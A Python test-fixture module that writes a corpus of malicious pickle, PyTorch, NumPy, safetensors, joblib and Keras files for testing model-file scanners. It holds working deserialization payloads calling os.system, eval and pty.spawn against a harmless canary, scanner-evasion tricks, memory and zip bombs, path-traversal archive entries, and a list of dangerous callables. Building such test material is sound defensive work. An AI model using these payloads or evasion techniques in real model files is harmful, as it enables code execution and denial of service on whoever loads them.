"""Malicious checkpoints of the kinds that fickling, picklescan and modelscan test, written opcode by opcode.

Each would create the file `canary`, take all memory, or never end, if a reader followed it. ``corpus(folder, canary)``
writes them and returns their paths; nothing here runs one.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib
from pathlib import Path

PROTO = b"\x80\x04"


def text(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(module: str, name: str, *args: str) -> bytes:
    """GLOBAL, a tuple of strings, REDUCE."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(text(a) for a in args) + b"tR"


def stack_call(module: str, name: str, *args: str) -> bytes:
    return text(module) + text(name) + b"\x93(" + b"".join(text(a) for a in args) + b"tR"


_MORE = [  # that scanners list, or were found to have missed
    "subprocess.Popen", "subprocess.check_output", "os.popen", "os.execv", "os.spawnlp", "posix.execve", "pickle.load", "_pickle.loads", "dill.loads",
    "cloudpickle.loads", "importlib.import_module", "imp.load_source", "runpy.run_path", "sys.exit", "sys.setprofile", "socket.socket", "ssl.get_server_certificate",
    "requests.api.get", "httplib.HTTPSConnection", "aiohttp.client.ClientSession", "ftplib.FTP", "smtplib.SMTP", "telnetlib.Telnet", "xmlrpc.client.ServerProxy",
    "urllib.request.urlretrieve", "multiprocessing.util.spawnv_passfds", "threading.Thread", "signal.signal", "atexit.register", "ensurepip._run_pip", "doctest.debug_script",
    "lib2to3.pgen2.pgen.ParserGenerator.make_label", "lib2to3.pgen2.grammar.Grammar.loads", "idlelib.run.Executive.runcode", "idlelib.calltip.get_entity",
    "idlelib.autocomplete.AutoComplete.get_entity", "idlelib.debugobj.ObjectTreeItem.SetText", "trace.Trace.run", "trace.Trace.runctx", "profile.Profile.runctx", "profile.run", "cProfile.runctx",
    "pydoc.pipepager", "pydoc.locate", "_osx_support._read_output", "_aix_support._read_cmd_output", "_pyrepl.pager.pipe_pager", "distutils.file_util.write_file", "logging.config.listen",
    "numpy.f2py.crackfortran.getlincoef", "numpy.f2py.crackfortran._eval_length", "numpy.distutils.exec_command.exec_command", "numpy.testing._private.utils.measure", "numpy.ctypeslib.load_library",
    "torch.utils.bottleneck.__main__.run_cprofile", "torch.utils._config_module.ConfigModule.load_config", "torch.utils.collect_env.run", "torch.utils.data.datapipes.utils.decoder.basichandlers",
    "torch.distributed.rpc.rpc_sync", "torch.distributed.launcher.api.elastic_launch", "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression", "torch._dynamo.guards.GuardBuilder.get",
    "torch.jit.unsupported_tensor_ops.execWrapper", "torch.ops.load_library", "torch.classes.load_library", "torch.serialization.load", "torch.storage.torch.load", "torch.package.PackageImporter",
    "pandas.read_pickle", "pandas.io.pickle.read_pickle", "pandas.core.computation.eval.eval", "joblib.numpy_pickle.load", "tensorflow.python.platform.gfile.GFile", "keras.models.load_model",
    "transformers.utils.import_utils.run", "transformers.os.popen", "huggingface_hub.snapshot_download", "fsspec.open", "jinja2.Template", "mako.template.Template", "yaml.unsafe_load",
    "builtins.delattr", "builtins.setattr", "builtins.input", "builtins.breakpoint", "builtins.globals", "builtins.vars", "builtins.apply", "__builtin__.file", "__builtin__.execfile",
    "operator.methodcaller", "functools.reduce", "_io.FileIO", "io.open", "pathlib.Path.unlink", "shutil.copy", "tempfile.mktemp", "zipimport.zipimporter", "site.main", "venv.create",
    "nturl2path.url2pathname", "uuid._get_command_stdout", "imaplib.IMAP4_stream", "asyncio.subprocess.create_subprocess_shell", "gc.get_objects", "weakref.finalize", "sqlite3.connect", "ctypes.cdll.LoadLibrary",
]  # fmt: skip


def pickles(canary: Path) -> dict[str, bytes]:
    touch, python = f"touch {canary}", f"open({str(canary)!r}, 'w').close()"
    found = {
        "os_system": call("os", "system", touch), "posix_system": call("posix", "system", touch), "nt_system": call("nt", "system", touch),
        "eval": call("builtins", "eval", python), "exec": call("builtins", "exec", python), "py2_eval": call("__builtin__", "eval", python),
        "runpy": call("runpy", "_run_code", python), "subprocess": call("subprocess", "getoutput", touch), "pty": call("pty", "spawn", "sh"),
        "timeit": call("timeit", "timeit", python), "pdb": call("pdb", "run", python), "cprofile": call("cProfile", "run", python),
        "code": call("code", "InteractiveInterpreter", python), "bdb": call("bdb", "Bdb", python), "compile": call("builtins", "compile", python),
        "import": call("builtins", "__import__", "os"), "getattr": call("builtins", "getattr", "os", "system"), "open": call("builtins", "open", str(canary), "w"),
        "webbrowser": call("webbrowser", "open", "http://localhost/"), "urlopen": call("urllib.request", "urlopen", "http://localhost/"),
        "socket": call("socket", "create_connection", "localhost"), "pip": call("pip", "main", "install"), "ctypes": call("ctypes", "CDLL", "libc.so.6"),
        "torch_load": call("torch", "load", str(canary)), "torch_hub": call("torch.hub", "load", "x/y", "z"), "jit": call("torch.jit", "load", str(canary)),
        "inductor": call("torch._inductor.codecache", "compile_file", python), "utils_cpp": call("torch.utils.cpp_extension", "load_inline", "x"),
        "numpy_load": call("numpy", "load", str(canary)), "numpy_run": call("numpy.testing._private.utils", "runstring", python),
        "joblib": call("joblib", "load", str(canary)), "pickle_loads": call("pickle", "loads", "x"), "shutil": call("shutil", "rmtree", "/nonexistent"),
        "attrgetter": call("operator", "attrgetter", "system"), "partial": call("functools", "partial", python), "marshal": call("marshal", "loads", "x"),
        "asyncio": call("asyncio.unix_events", "_UnixSubprocessTransport._start", touch), "idlelib": call("idlelib.pyshell", "ModifiedInterpreter", python),
        "dunder": call("torch", "serialization.os.system", touch), "dotted": stack_call("transformers", "os.system", touch),
        "stack_global": stack_call("os", "system", touch), "stack_tuple": text("posix") + text("system") + b"\x93" + text(touch) + b"\x85R",
        "memo_global": text("os") + b"\x94" + text("system") + b"\x94" + b"h\x00h\x01\x93" + text(touch) + b"\x85R",
        "nested": call("builtins", "eval", python) + b"0" + call("os", "system", touch),
        "nested_reduce": b"cbuiltins\nmap\n(cos\nsystem\n(" + text(touch) + b"ltR",
        "inst": b"(" + text(touch) + b"ios\nsystem\n", "obj": b"(cos\nsystem\n" + text(touch) + b"o",
        "newobj": b"cos\nsystem\n" + text(touch) + b"\x85\x81", "newobj_ex": b"cos\nsystem\n" + text(touch) + b"\x85}\x92",
        "build_setstate": b"cos\nsystem\n)R}" + text("__setstate__") + b"cos\nsystem\nsb" + text(touch) + b"b",
        "build_on_name": b"cos\nsystem\n" + text(touch) + b"b", "call_of_result": call("builtins", "getattr", "os", "system") + text(touch) + b"\x85R",
        "extension": b"\x82\x01", "persistent": text("posix") + b"Q", "from_type": b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\ncos\nsystem\n" + text(touch) + b"\x85}tR",
        "ordered_dict_of_call": b"ccollections\nOrderedDict\n(cos\nsystem\n" + text(touch) + b"\x85RtR",
        "reconstructor": b"ccopy_reg\n_reconstructor\n(cos\nsystem\ncbuiltins\nobject\nNtR",
        "load_from_bytes": b"ctorch.storage\n_load_from_bytes\n(" + b"B" + struct.pack("<I", 0) + b"tR",
        "embedded": b"ctorch.storage\n_load_from_bytes\n(" + _bytes(PROTO + call("os", "system", touch) + b".") + b"tR",
        "bytearray_bomb": b"cbuiltins\nbytearray\n(I999999999999\ntR", "range": b"cbuiltins\nrange\n(I999999999999\ntR",
        "memo_bomb": b"]r\xff\xff\xff\xff", "memo_bomb_text": b"]p99999999999999999999\n", "length_bomb": b"\x8e" + b"\xff" * 7 + b"\x7f",
        "text_bomb": b"\x8d" + b"\xff" * 8, "negative": b"T\xff\xff\xff\xff", "long_bomb": b"\x8b\xff\xff\xff\x7f", "digits": b"I" + b"9" * 100_000 + b"\n",
        "frame_bomb": b"\x95" + b"\xff" * 8 + b"N", "deep_list": b"]" * 200_000 + b"a" * 199_999, "deep_tuple": b")" + b"\x85" * 200_000,
        "marks": b"(" * 200_000 + b"t" * 200_000, "self_list": b"]\x94h\x00a", "self_dict": b"}\x94" + text("x") + b"h\x00s",
        "laughs": _laughs(), "laughs_objects": _laughs(b"c__main__\nThing\n)R"), "unhashable": b"}]Ns}}Ns", "lone_mark": b"(", "empty": b"",
        "no_stop": b"}" * 100, "bad_opcode": b"\xfe", "bad_utf8": b"X\x02\x00\x00\x00\xff\xff", "pop_empty": b"0", "surrogates": b"X\x03\x00\x00\x00\xed\xa0\x80",
        "extension2": b"\x83\x01\x01", "extension4": b"\x84\x01\x00\x00\x7f", "extension_called": b"\x82\x01" + text(touch) + b"\x85R",
        "persistent_text": b"Pposix.system\n", "persistent_called": b"(" + text("storage") + b"cos\nsystem\n" + text("0") + text("cpu") + b"K\x01tQ" + text(touch) + b"\x85R",
        "bytearray8_bomb": b"\x96" + b"\xff" * 7 + b"\x7f", "long_binput_bombs": b"".join(b"]r" + struct.pack("<I", 0xFFFFFFFF - i) + b"0" for i in range(2000)) + b"N",
        "frames_nested": (b"\x95" + struct.pack("<Q", 1 << 40)) * 1000 + b"N", "set_bomb": b"\x8f(" + b"".join(b"J" + struct.pack("<i", i) for i in range(50_000)) + b"\x90",
        "object_array": b"cnumpy._core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\x00\x85C\x01btR(K\x01K\x01\x85cnumpy\ndtype\n" + text("O8")
        + b"\x89\x88\x87R(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb\x89]" + call("os", "system", touch) + b"atb",
        "build_dict": b"c__main__\nThing\n)\x81}" + text("__class__") + b"cos\nsystem\nsb", "build_slots": b"cargparse\nNamespace\n)\x81N}" + text("run") + call("os", "system", touch) + b"s\x86b",
        "newobj_meta": b"cbuiltins\ntype\n(" + text("X") + b")}" + text("__del__") + b"cos\nsystem\nstR)\x81", "code_object": b"ctypes\nFunctionType\n(ctypes\nCodeType\n)R}tR",
        "add_extension": b"ccopyreg\nadd_extension\n(" + text("os") + text("system") + b"K\x01tR0\x82\x01" + text(touch) + b"\x85R",
        "broken_after": call("os", "system", touch) + b"\xfe", "unicode_lookalike": "cоs\nsystem\n".encode() + b"(" + text(touch) + b"tR",
        "three_calls": b"".join(call("os", "system", touch) + b"0" for _ in range(3)) + b"N", "proto_late": call("os", "system", touch) + b"\x80\x05",
        **{f"more_{i}": call(*name.rsplit(".", 1), python) for i, name in enumerate(_MORE)},
        "long_name": b"c" + b"a" * 100_000 + b"\nb\n)R", "escape": b"}" + text("\x1b[2J\x1b]0;gone\x07") + b"K\x01s", "next_buffer": b"\x97",
    }  # fmt: skip
    return {k: PROTO + v + (b"" if k == "no_stop" else b".") for k, v in found.items()} | {
        "protocol_0": call("os", "system", touch)[:-2] + b"tR."
    }


def _bytes(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


def _laughs(leaf: bytes = b"]") -> bytes:
    """Thirty lists, each holding the one before ten times: a small file with 10^30 leaves."""
    body = leaf + b"\x94"
    for i in range(30):
        body += b"](" + b"".join(b"h" + bytes([i]) for _ in range(10)) + b"e\x94"
    return body


def torch_zip(data: bytes, *, members: dict[str, bytes] | None = None, compress: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data)
        z.writestr("archive/version", "3\n")
        for name, content in (members or {}).items():
            z.writestr(name, content)
    return out.getvalue()


def tensor_pickle(shape: tuple[int, ...], strides: tuple[int, ...], count: int, offset: int = 0) -> bytes:
    """A torch pickle of one float tensor over storage 0, with any numbers one likes."""
    numbers = b"".join(b"I%d\n" % n for n in shape)
    steps = b"".join(b"I%d\n" % n for n in strides)
    pid = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"I%d\ntQ" % count
    view = (
        b"ctorch._utils\n_rebuild_tensor_v2\n("
        + pid
        + b"I%d\n(" % offset
        + numbers
        + b"t("
        + steps
        + b"t\x89ccollections\nOrderedDict\n)RtR"
    )
    return PROTO + b"}" + text("w") + view + b"s."


def _npy(header: str, data: bytes = b"") -> bytes:
    raw = header.encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + data


def _npz(member: bytes, *, name: str = "w.npy", compress: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as z:
        z.writestr(name, member)
    return out.getvalue()


def _safetensors(header: bytes, data: bytes = b"", length: int | None = None) -> bytes:
    return struct.pack("<Q", len(header) if length is None else length) + header + data


def others(canary: Path) -> dict[str, bytes]:
    """Files that are no bare pickles: bombs of lengths and sizes, names that lead out, code in archives."""
    system = PROTO + call("os", "system", f"touch {canary}") + b"."
    huge, small = 1 << 60, struct.pack("<f", 1.0)
    objects = pickle.dumps({"x": 1})
    good = tensor_pickle((1,), (1,), 1)
    slip = {"../../slip": b"x", "/etc/slip": b"x", "archive/data/0": small}
    jit = {"archive/code/__torch__.py": b"import os\nos.system('x')\n", "archive/constants.pkl": system, "archive/data/0": small}
    twice = bytearray(torch_zip(good, members={"archive/data/0": small}))
    end = twice.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", twice, end + 8, 65535, 65535)
    entry = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
    many = {f"t{i}": {"dtype": "F32", "shape": [1 << 18], "data_offsets": [0, 1 << 20]} for i in range(2000)}
    return {
        "zip_system.pt": torch_zip(system), "zip_slip.pt": torch_zip(good, members=slip), "jit.pt": torch_zip(good, members=jit),
        "bomb_pickle.pt": torch_zip(PROTO + b"]" + b"N0" * 40_000_000 + b".", compress=True),
        "bomb_storage.pt": torch_zip(good, members={"archive/data/0": bytes(50_000_000)}, compress=True),
        "huge_shape.pt": torch_zip(tensor_pickle((huge, huge), (1, 1), huge), members={"archive/data/0": small}),
        "expanded.pt": torch_zip(tensor_pickle((1 << 40,), (0,), 1), members={"archive/data/0": small}),
        "expanded_many.pt": torch_zip(tensor_pickle((1 << 11, 1 << 11), (0, 0), 1), members={"archive/data/0": small}),
        "offset.pt": torch_zip(tensor_pickle((1,), (1,), 1, offset=huge), members={"archive/data/0": small}),
        "negative_stride.pt": torch_zip(tensor_pickle((4,), (-1,), 4), members={"archive/data/0": small * 4}),
        "zip_counts.pt": bytes(twice), "no_directory.pt": torch_zip(good, members={"archive/data/0": small})[:-60], "zip_only_magic.pt": b"PK\x03\x04" + bytes(100),
        "objects.npz": _npz(_npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n", system)), "object.npy": _npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n", objects),
        "code_header.npz": _npz(_npy(f"__import__('os').system('touch {canary}')\n")), "deep_header.npz": _npz(_npy("(" * 50_000)),
        "huge.npz": _npz(_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1000000000000,), }\n", small)),
        "bomb.npz": _npz(_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (16,), }\n", bytes(100_000_000)), compress=True),
        "record.npz": _npz(_npy("{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }\n", small)), "slip.npz": _npz(_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }\n", small), name="../../slip.npy"),
        "length.safetensors": _safetensors(b"{}", length=1 << 63), "deep.safetensors": _safetensors(b"[" * 100_000), "digits.safetensors": _safetensors(b'{"a": ' + b"9" * 100_000 + b"}"),
        "overlap.safetensors": _safetensors(json.dumps(many).encode(), bytes(1 << 20)), "beyond.safetensors": _safetensors(json.dumps({"a": entry | {"data_offsets": [1 << 60, (1 << 60) + 4]}}).encode(), small),
        "negative.safetensors": _safetensors(json.dumps({"a": entry | {"shape": [-1], "data_offsets": [4, 0]}}).encode(), small), "types.safetensors": _safetensors(json.dumps({"a": 1, "b": None, "c": [], "d": entry | {"dtype": {}}}).encode(), small),
        "twice.safetensors": _safetensors(b'{"a":' + json.dumps(entry).encode() + b',"a":' + json.dumps(entry).encode() + b"}", small), "not_utf8.safetensors": _safetensors(b"\xff\xfe{}"),
        "joblib.pkl": b"\x80\x04\x95" + struct.pack("<Q", 40) + b"\x8c\x13joblib.numpy_pickle\x94\x8c\x11NumpyArrayWrapper\x94\x93\x94)\x81.", "zlib.pt": zlib.compress(system), "gzip.pt": b"\x1f\x8b" + bytes(50),
        "keras_lambda.keras": _keras(system), "joblib_arrays.joblib": _joblib(system), "two_pickles.pt": torch_zip(good, members={"archive/../data.pkl": system, "other/data.pkl": system}),
        "flags.pt": _flagged(torch_zip(system)), "local_differs.pt": torch_zip(system).replace(b"archive/data.pkl", b"archive/dato.pkl", 1), "quine.pt": _overlapping(),
        "appended.pt": torch_zip(good, members={"archive/data/0": small}) + system, "before.pt": system + torch_zip(good), "lambda.h5": b"\x89HDF\r\n\x1a\n" + bytes(100),
        "nested_zip.pt": torch_zip(torch_zip(system)), "metadata.safetensors": _safetensors(json.dumps({"__metadata__": {"__reduce__": "os.system", "\x1b[2J": "\x1b"}, "a": entry}).encode(), small),
        ".metadata": PROTO + call("os", "system", f"touch {canary}") + b".", "tar.pt": bytes(257) + b"ustar" + bytes(250),
    }  # fmt: skip


def _joblib(code: bytes) -> bytes:
    """joblib puts an array's bytes into the middle of the pickle; of an array of objects, a second pickle."""
    wrapper = (
        PROTO + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + text("subclass") + b"cnumpy\nndarray\n" + text("shape") + b"K\x01\x85"
    )
    return wrapper + text("order") + text("C") + text("dtype") + b"cnumpy\ndtype\n" + text("O8") + b"\x89\x88\x87Rub" + code + b"."


def _flagged(archive: bytes) -> bytes:
    """The bit of encryption is set and sums are wrong: scanners gave up on such files, loaders did not."""
    damaged = bytearray(archive)
    damaged[6] |= 1
    damaged[14:18] = b"\xde\xad\xbe\xef"
    central = damaged.find(b"PK\x01\x02")
    damaged[central + 8] |= 1
    return bytes(damaged)


def _overlapping(members: int = 2000) -> bytes:
    """A zip whose members all point at the same packed megabytes (Fifield 2019)."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packed.compress(bytes(20_000_000)) + packed.flush()
    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, len(body), 20_000_000, 16, 0) + b"archive/data.pkl" + body
    names = [b"archive/data.pkl", *(b"archive/data/%d" % i for i in range(members))]
    central = b"".join(
        b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0, 0, len(body), 20_000_000, len(n), 0, 0, 0, 0, 0, 0) + n
        for n in names
    )
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(central), len(local), 0)


def _keras(code: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("config.json", json.dumps({"class_name": "Lambda", "config": {"function": code.hex()}}))
        z.writestr("../../../slip", b"x")
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(100))
    return out.getvalue()


def corpus(folder: Path, canary: Path) -> list[Path]:
    """Every bare pickle three times (bare, in torch's zip, in torch's older stream), and the other files once."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    files = {f"{k}.pkl": v for k, v in pickles(canary).items()}
    files |= {f"{k}.zip.pt": torch_zip(v) for k, v in pickles(canary).items()}
    files |= {f"{k}.old.pt": magic + v + pickle.dumps(["0"], 2) for k, v in pickles(canary).items()}
    files |= others(canary)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return [folder / name for name in files]
